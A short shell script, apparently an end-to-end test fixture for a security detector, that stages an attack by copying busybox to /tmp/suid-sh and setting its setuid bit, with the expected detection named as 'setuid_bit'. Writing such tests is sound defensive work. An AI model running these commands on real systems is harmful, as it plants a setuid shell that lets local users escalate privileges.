#!/bin/sh
# Attack: plant a setuid copy of a shell for later privilege escalation, with
# the image's own busybox (cp, chmod). Expected: setuid_bit.
sleep "${E2E_DELAY:-0}"
cp /bin/busybox /tmp/suid-sh
chmod 4755 /tmp/suid-sh && echo "setuid shell planted"
